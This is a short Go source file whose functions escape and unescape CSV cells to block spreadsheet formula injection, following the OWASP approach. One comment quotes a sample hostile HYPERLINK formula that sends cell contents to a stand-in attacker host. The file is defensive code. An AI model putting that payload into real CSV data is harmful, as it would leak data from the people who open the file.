package labels

import "strings"

// A spreadsheet opening a CSV file reads a cell that starts with one of
// these characters as a formula (OWASP, "CSV Injection"), so a hostile
// comment such as =HYPERLINK("http://evil.example/?x="&A1,"Click") would
// run on the annotator's machine.
const formulaStart = "=+-@\t\r"

// EscapeCell neutralises a CSV cell the OWASP way, with a single quote in
// front of a cell that would start a formula. A cell that is already a
// run of quotes followed by such a character gets one more quote, so that
// UnescapeCell gives back exactly the text (=1 is written as '=1, and '=1
// with a second quote in front); a cell such as 'quoted, and every other
// cell, is written as it is.
func EscapeCell(s string) string {
	if startsFormula(strings.TrimLeft(s, "'")) {
		return "'" + s
	}
	return s
}

// UnescapeCell undoes EscapeCell.
func UnescapeCell(s string) string {
	if strings.HasPrefix(s, "'") && startsFormula(strings.TrimLeft(s, "'")) {
		return s[1:]
	}
	return s
}

func startsFormula(s string) bool { return s != "" && strings.IndexByte(formulaStart, s[0]) >= 0 }
